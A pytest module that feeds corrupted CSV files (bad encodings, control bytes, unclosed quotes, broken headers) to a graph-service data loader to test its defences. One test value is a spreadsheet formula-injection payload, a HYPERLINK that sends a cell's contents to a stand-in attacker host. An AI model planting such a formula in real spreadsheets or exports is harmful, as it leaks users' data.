"""Hostile input, generated: corrupted copies of every contract file of a demo world.

One demo world (seed 1, ``calls.csv`` cut to its first 2,500 rows to keep each load
short) is generated per session and loaded once as it is: the **baseline**. Each case
copies the world, corrupts one file and loads the copy into a clean store, asserting:
no exception, every file's report reconciles, and

* **row cases** (corrupted copies of a good row inserted first, in the middle or last):
  a reject (line, column, reason) for exactly the inserted lines, every other row of the
  file loaded as in the baseline (its rejects moved down by the inserted lines), every
  other file exactly as in the baseline, and the same graph;
* **same cases** (BOM variants, CRLF, CR, mixed line endings, no final line break, every
  field quoted): everything exactly as in the baseline;
* **failing cases** (UTF-16/UTF-32, a workbook, a header that is not UTF-8, a repeated or
  missing column, a tab-separated header): the file fails as a whole with a clear
  message, nothing of it or of the files depending on it is in the store, every other
  file is exactly as in the baseline, and the report says so.

Every file gets every corruption (a few variants of one reader path are tried on
``calls.csv`` or ``prisoners.csv`` only); that cross product is marked ``slow`` but for
every row corruption on ``calls.csv``, every file corruption on ``prisoners.csv`` and an
unclosed quote on every file, the fast subset.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from graph_service.synthetic.generator import generate_world
from loaders.contract import CONTRACT, DEPENDS_ON, MAX_LINE_BYTES
from loaders.rejects import read_rejects
from loaders.runner import load_directory

FILES = list(CONTRACT)
CALLS_KEPT = 2500


# -- the world and its baseline ----------------------------------------------------------
@dataclass
class Baseline:
    directory: Path
    files: dict[str, tuple[str, int, int, int, int]]  # file -> (status, read, loaded, rejected, excluded)
    rejects: dict[str, list[tuple[int, str, str]]]  # file -> [(line, column, reason)]
    counts: dict
    headers: dict[str, list[str]]
    lines: dict[str, list[bytes]]  # file -> its physical lines (the header first)
    good: dict[str, int]  # file -> index in lines of a row loaded as it is (the template)


def summary(report) -> dict[str, tuple[str, int, int, int, int]]:
    return {f.file: (f.status, f.rows_read, f.loaded, f.rejected, f.excluded) for f in report.files}


def rejects_by_file(path: Path) -> dict[str, list[tuple[int, str, str]]]:
    out: dict[str, list[tuple[int, str, str]]] = {name: [] for name in FILES}
    for r in read_rejects(path):
        out[r["file"]].append((int(r["line"]), r["column"], r["reason"]))
    return out


@pytest.fixture(scope="session")
def hostile_world(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile-world")
    generate_world("demo", 1, out)
    calls = (out / "calls.csv").read_bytes().split(b"\n")
    (out / "calls.csv").write_bytes(b"\n".join(calls[: CALLS_KEPT + 1]) + b"\n")
    return out


@pytest.fixture(scope="session")
def baseline(hostile_world, shared_store, tmp_path_factory) -> Baseline:
    shared_store.delete_all()
    out = tmp_path_factory.mktemp("hostile-baseline")
    report = load_directory(
        shared_store, hostile_world, report_path=out / "r.json", progress=False, resolve=False, agency="hmpps"
    )
    assert report.ok and all(f.status == "loaded" for f in report.files), report.problems
    rejects = rejects_by_file(out / "r.rejects.csv")
    lines, headers, good = {}, {}, {}
    for name in FILES:
        raw = (hostile_world / name).read_bytes().removeprefix(b"\xef\xbb\xbf").split(b"\n")
        lines[name] = raw[:-1] if raw[-1] == b"" else raw
        headers[name] = next(csv.reader([lines[name][0].decode()]))
        refused = {line for line, _, _ in rejects[name]}
        good[name] = next(
            i
            for i in range(1, len(lines[name]))
            if i + 1 not in refused and not (name == "calls.csv" and lines[name][i].endswith(b",Y"))
        )
    return Baseline(hostile_world, summary(report), rejects, shared_store.counts(), headers, lines, good)


def test_the_baseline_world_loads_exactly_its_planted_bad_rows(hostile_world, baseline):
    import json

    truth = json.loads((hostile_world / "ground_truth.json").read_text())
    kept = lambda item: item["file"] != "calls.csv" or int(item["line"]) <= CALLS_KEPT + 1  # noqa: E731
    planted = {(b["file"], int(b["line"])): b["column"] for b in truth["bad_rows"] if kept(b)}
    conflicting = {(d["file"], int(d["line"])) for d in truth["duplicates"] if d["kind"] == "conflicting" and kept(d)}
    got = {(name, line): column for name, rows in baseline.rejects.items() for line, column, _ in rows}
    assert set(got) == set(planted) | conflicting
    assert all(got[key] == column for key, column in planted.items())
    for name in FILES:
        _status, read, loaded, rejected, excluded = baseline.files[name]
        assert read == loaded + rejected + excluded and rejected == len(baseline.rejects[name]), name


# -- the corruptions ---------------------------------------------------------------------
# A row corruption: (header, a good row's cells) -> (the lines to insert, the expected
# reject of each: (column, words of the reason or None)).
RowMaker = Callable[[list[str], list[str]], tuple[list[bytes], list[tuple[str, str | None]]]]


def _join(cells: list[str]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    return buffer.getvalue().encode()


def _bytes_in_first(extra: bytes, words: str, before: bool = False) -> RowMaker:
    def make(header, cells):
        first = cells[0].encode()
        first = extra + first if before else first[:2] + extra + first[2:]
        return [first + b"," + _join(cells[1:])], [(header[0], words)]

    return make


def _first_cell(value: str, words: str | None) -> RowMaker:
    def make(header, cells):
        return [_join([value, *cells[1:]])], [(header[0], words)]

    return make


def _unclosed(header, cells):
    line = _join(cells[:1]) + b',"' + b",".join(c.encode() for c in cells[1:])
    return [line], [(header[1], "unclosed quote")]


def _line_break_in_field(header, cells):
    text = cells[1]
    line = _join(cells[:1]) + b',"' + text[:1].encode() + b"\n" + text[1:].encode() + b'",' + _join(cells[2:])
    return line.split(b"\n"), [(header[1], "unclosed quote"), ("", "continuation of the quoted field")]


def _overlong(header, cells):
    return [_join([cells[0] + "x" * (MAX_LINE_BYTES + 10), *cells[1:]])], [("", "bytes; at most")]


def _repeated_header(header, cells):
    return [_join(header)], [("", "header line again")]


def _out_of_range(file: str) -> RowMaker:
    spec = CONTRACT[file]

    def make(header, cells):
        if file == "calls.csv":
            at = header.index("duration_seconds")
            values = ["99999999999999999999999999", "9223372036854775808", "-5", "172801", "1e400", "nan", "1_000"]
        else:
            column = (spec["dates"] or spec["datetimes"])[0]
            at = header.index(column)
            values = ["1800-01-01", "2201-01-01"] if column in spec["dates"] else ["1800-01-01T00:00:00"]
        rows = []
        for value in values:
            changed = list(cells)
            changed[at] = value
            rows.append(_join(changed))
        return rows, [(header[at], None)] * len(rows)

    return make


def _has_range(file: str) -> bool:
    spec = CONTRACT[file]
    return bool(spec["dates"] or spec["datetimes"] or spec["integers"])


FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'

ROW_CASES: dict[str, tuple[RowMaker | Callable[[str], RowMaker], str]] = {
    # name: (maker, where)
    "latin1-byte": (_bytes_in_first(b"\xe9", "not valid UTF-8"), "middle"),
    "cp1252-byte": (_bytes_in_first(b"\x80", "not valid UTF-8"), "middle"),
    "truncated-utf8": (_bytes_in_first(b"\xc3", "not valid UTF-8"), "first"),
    "overlong-utf8": (_bytes_in_first(b"\xc0\xaf", "not valid UTF-8"), "last"),
    "surrogate-utf8": (_bytes_in_first(b"\xed\xa0\x80", "not valid UTF-8"), "middle"),
    "nul": (_bytes_in_first(b"\x00", "NUL byte"), "middle"),
    "control-in-id": (_bytes_in_first(b"\x07", "U+0007"), "middle"),
    "escape-in-id": (_bytes_in_first(b"\x1b[31m", "U+001B"), "first"),
    "line-separator-in-id": (_bytes_in_first("\u2028".encode(), "U+2028"), "middle"),
    "tab-in-id": (_bytes_in_first(b"\t", "a tab"), "middle"),
    "bom-mid-file": (_bytes_in_first(b"\xef\xbb\xbf", None, before=True), "middle"),
    "unclosed-quote-first": (_unclosed, "first"),
    "unclosed-quote-middle": (_unclosed, "middle"),
    "unclosed-quote-last": (_unclosed, "last-without-line-break"),
    "line-break-in-field": (_line_break_in_field, "middle"),
    "oversized-line": (_overlong, "middle"),
    "oversized-field": (_first_cell("x" * 5000, "characters long"), "middle"),
    "formula-cell": (_first_cell(FORMULA, None), "middle"),
    "repeated-header": (_repeated_header, "middle"),
    "out-of-range": (_out_of_range, "middle"),
}
# Variants of one reader path, tried on calls.csv only (the others take each path once).
CALLS_ONLY = {"cp1252-byte", "truncated-utf8", "overlong-utf8", "control-in-id", "escape-in-id", "line-separator-in-id"}
FAST_ROW = {("calls.csv", kind) for kind in ROW_CASES} | {(f, "unclosed-quote-middle") for f in FILES}


def row_params():
    for file in FILES:
        for kind in ROW_CASES:
            if (kind == "out-of-range" and not _has_range(file)) or (kind in CALLS_ONLY and file != "calls.csv"):
                continue
            marks = () if (file, kind) in FAST_ROW else (pytest.mark.slow,)
            yield pytest.param(file, kind, marks=marks, id=f"{file}-{kind}")


def copy_world(baseline: Baseline, tmp_path: Path) -> Path:
    directory = tmp_path / "world"
    directory.mkdir()
    for name in FILES:
        shutil.copyfile(baseline.directory / name, directory / name)
    return directory


def load(store, directory: Path, tmp_path: Path):
    report = load_directory(
        store, directory, report_path=tmp_path / "out" / "r.json", progress=False, resolve=False, agency="hmpps"
    )
    raw = (tmp_path / "out" / "r.rejects.csv").read_bytes()
    text = raw.decode("utf-8")  # the rejects file is always UTF-8 ...
    assert all(line.isprintable() for line in text.split("\r\n")), "a raw control character in the rejects file"
    return report, rejects_by_file(tmp_path / "out" / "r.rejects.csv")


def assert_other_files_as_baseline(baseline: Baseline, report, rejects, skip: set[str]) -> None:
    got = summary(report)
    for name in FILES:
        if name in skip:
            continue
        assert got[name] == baseline.files[name], name
        assert rejects[name] == baseline.rejects[name], name


@pytest.mark.parametrize("file, kind", list(row_params()))
def test_corrupted_rows_are_rejected_exactly_and_everything_else_loads(store, baseline, tmp_path, file, kind):
    maker, where = ROW_CASES[kind]
    if kind == "out-of-range":
        maker = maker(file)  # type: ignore[call-arg]
    lines = baseline.lines[file]
    header = baseline.headers[file]
    template = next(csv.reader([lines[baseline.good[file]].decode()]))
    inserted, expected = maker(header, template)  # type: ignore[misc]
    at = {"first": 1, "middle": len(lines) // 2, "last": len(lines), "last-without-line-break": len(lines)}[where]
    corrupted = [*lines[:at], *inserted, *lines[at:]]
    directory = copy_world(baseline, tmp_path)
    bom = b"\xef\xbb\xbf" if (baseline.directory / file).read_bytes().startswith(b"\xef\xbb\xbf") else b""
    ending = b"" if where == "last-without-line-break" else b"\n"
    (directory / file).write_bytes(bom + b"\n".join(corrupted) + ending)

    report, rejects = load(store, directory, tmp_path)

    assert report.ok, report.problems
    assert all(f.reconciles() for f in report.files)
    status, read, loaded, rejected, excluded = baseline.files[file]
    k = len(inserted)
    assert summary(report)[file] == (status, read + k, loaded, rejected + k, excluded)
    first_inserted = at + 1  # physical line of the first inserted line
    moved = [(line + k if line >= first_inserted else line, column) for line, column, _ in baseline.rejects[file]]
    new = {first_inserted + i: e for i, e in enumerate(expected)}
    assert sorted((line, column) for line, column, _ in rejects[file]) == sorted(
        moved + [(line, column) for line, (column, _) in new.items()]
    )
    reasons = {line: reason for line, _, reason in rejects[file]}
    for line, (_, words) in new.items():
        if words is not None:
            assert words in reasons[line], (line, reasons[line])
    assert_other_files_as_baseline(baseline, report, rejects, {file})
    assert store.counts() == baseline.counts  # the same graph: nothing lost, nothing added
    if kind == "formula-cell":
        (value,) = [
            r["value"]
            for r in read_rejects(tmp_path / "out" / "r.rejects.csv")
            if r["file"] == file and int(r["line"]) in new
        ]
        assert value == "'" + FORMULA or (file == "calls.csv" and value == "")


# -- whole-file corruptions ----------------------------------------------------------------
def _reencode(encoding: str, bom: bytes = b"") -> Callable[[bytes], bytes]:
    return lambda data: bom + data.removeprefix(b"\xef\xbb\xbf").decode("utf-8").encode(encoding)


def _lines_with(eol: bytes) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"\n", eol)


def _mixed(data: bytes) -> bytes:
    parts = data.split(b"\n")
    eols = (b"\r\n", b"\r", b"\n")
    return b"".join(part + (eols[i % 3] if i < len(parts) - 1 else b"") for i, part in enumerate(parts))


def _quote_all(data: bytes) -> bytes:
    bom = b"\xef\xbb\xbf" if data.startswith(b"\xef\xbb\xbf") else b""
    rows = list(csv.reader(io.StringIO(data.removeprefix(bom).decode("utf-8"), newline="")))
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    return bom + buffer.getvalue().encode()


def _toggle_bom(data: bytes) -> bytes:
    return data[3:] if data.startswith(b"\xef\xbb\xbf") else b"\xef\xbb\xbf" + data


def _header(change: Callable[[list[str]], tuple[list[str], Callable[[list[str]], list[str]]]]):
    """Change the header (and each row the same way)."""

    def corrupt(data: bytes) -> bytes:
        bom = b"\xef\xbb\xbf" if data.startswith(b"\xef\xbb\xbf") else b""
        rows = list(csv.reader(io.StringIO(data.removeprefix(bom).decode("utf-8"), newline="")))
        header, per_row = change(rows[0])
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows([header, *(per_row(r) for r in rows[1:])])
        return bom + buffer.getvalue().encode()

    return corrupt


def _duplicate_column(case: bool):
    def change(header):
        column = header[1]
        return [*header, column.upper() + " " if case else column], lambda row: [*row, row[1] if len(row) > 1 else ""]

    return _header(change)


def _drop_required(file: str):
    required = CONTRACT[file]["required"][0]

    def change(header):
        at = header.index(required)
        return header[:at] + header[at + 1 :], lambda row: row[:at] + row[at + 1 :]

    return _header(change)


def _tab_separated(data: bytes) -> bytes:
    bom = b"\xef\xbb\xbf" if data.startswith(b"\xef\xbb\xbf") else b""
    return bom + data.removeprefix(bom).replace(b",", b"\t")


def _bad_header_byte(data: bytes) -> bytes:
    head, _, rest = data.partition(b"\n")
    return head[:5] + b"\xe9" + head[5:] + b"\n" + rest


SAME_CASES: dict[str, Callable[[bytes], bytes]] = {
    "utf8-bom-toggled": _toggle_bom,
    "double-utf8-bom": lambda data: b"\xef\xbb\xbf\xef\xbb\xbf" + data.removeprefix(b"\xef\xbb\xbf"),
    "crlf": _lines_with(b"\r\n"),
    "cr": _lines_with(b"\r"),
    "mixed-line-endings": _mixed,
    "no-final-line-break": lambda data: data.rstrip(b"\n"),
    "every-field-quoted": _quote_all,
}
FAILING_CASES: dict[str, tuple[Callable[[str], Callable[[bytes], bytes]], str, str]] = {
    # name: (corruption for a file, expected status, words of the message)
    "utf16-le-bom": (lambda f: _reencode("utf-16-le", b"\xff\xfe"), "encoding_failed", "UTF-16"),
    "utf16-be-bom": (lambda f: _reencode("utf-16-be", b"\xfe\xff"), "encoding_failed", "UTF-16"),
    "utf16-no-bom": (lambda f: _reencode("utf-16-le"), "encoding_failed", "UTF-16 or UTF-32"),
    "utf32-bom": (lambda f: _reencode("utf-32"), "encoding_failed", "UTF-32"),
    "xlsx-workbook": (lambda f: lambda data: b"PK\x03\x04" + data, "encoding_failed", "ZIP"),
    "header-not-utf8": (lambda f: _bad_header_byte, "encoding_failed", "not valid UTF-8"),
    "duplicated-column": (lambda f: _duplicate_column(False), "header_failed", "repeats column"),
    "duplicated-column-other-case": (lambda f: _duplicate_column(True), "header_failed", "repeats column"),
    "missing-required-column": (_drop_required, "header_failed", "missing required column"),
    "tab-separated": (lambda f: _tab_separated, "header_failed", "tab-separated"),
}
# Variants tried on prisoners.csv only (a file with dependents).
PRISONERS_ONLY = {
    "double-utf8-bom",
    "mixed-line-endings",
    "no-final-line-break",
    "utf16-be-bom",
    "duplicated-column-other-case",
    "tab-separated",
}
FAST_FILE = {("prisoners.csv", kind) for kind in (*SAME_CASES, *FAILING_CASES)}


def file_params(cases):
    for file in FILES:
        for kind in cases:
            if kind in PRISONERS_ONLY and file != "prisoners.csv":
                continue
            marks = () if (file, kind) in FAST_FILE else (pytest.mark.slow,)
            yield pytest.param(file, kind, marks=marks, id=f"{file}-{kind}")


@pytest.mark.parametrize("file, kind", list(file_params(SAME_CASES)))
def test_harmless_variants_load_exactly_as_the_baseline(store, baseline, tmp_path, file, kind):
    directory = copy_world(baseline, tmp_path)
    (directory / file).write_bytes(SAME_CASES[kind]((directory / file).read_bytes()))
    report, rejects = load(store, directory, tmp_path)
    assert report.ok and all(f.reconciles() for f in report.files)
    assert_other_files_as_baseline(baseline, report, rejects, set())
    assert store.counts() == baseline.counts


def dependents(name: str) -> set[str]:
    found: set[str] = set()
    while True:
        more = {other for other, needs in DEPENDS_ON.items() if ({name} | found) & set(needs)} - found
        if not more:
            return found
        found |= more


@pytest.mark.parametrize("file, kind", list(file_params(FAILING_CASES)))
def test_a_file_failing_as_a_whole_blocks_its_dependents_only(store, baseline, tmp_path, file, kind):
    corruption, status, words = FAILING_CASES[kind]
    directory = copy_world(baseline, tmp_path)
    (directory / file).write_bytes(corruption(file)((directory / file).read_bytes()))
    report, rejects = load(store, directory, tmp_path)

    failed = report.file(file)
    assert (failed.status, failed.rows_read, failed.loaded) == (status, 0, 0)
    assert words in failed.message and failed.message.startswith(f"{file}: ")
    assert "nothing was loaded" in failed.message and failed.store_holds.startswith("no row")
    if kind.startswith("duplicated-column"):
        assert re.search(rf"repeats column\(s\) {baseline.headers[file][1]}\b", failed.message)
    blocked = dependents(file)
    for name in blocked:
        assert report.file(name).status == "dependency_failed", name
        assert "depends on failed file" in report.file(name).message
    assert not report.ok and set(report.failed_files) == {file} | blocked
    assert all(f.reconciles() for f in report.files)
    assert rejects[file] == [] and all(rejects[name] == [] for name in blocked)
    assert_other_files_as_baseline(baseline, report, rejects, {file} | blocked)
    for name in {file} | blocked:
        held = store.read_all(
            "MATCH (n) WHERE n.source = $f RETURN count(n) AS n UNION ALL "
            "MATCH ()-[r]->() WHERE r.source = $f RETURN count(r) AS n",
            {"f": name},
        )
        assert [r["n"] for r in held] == [0, 0], name
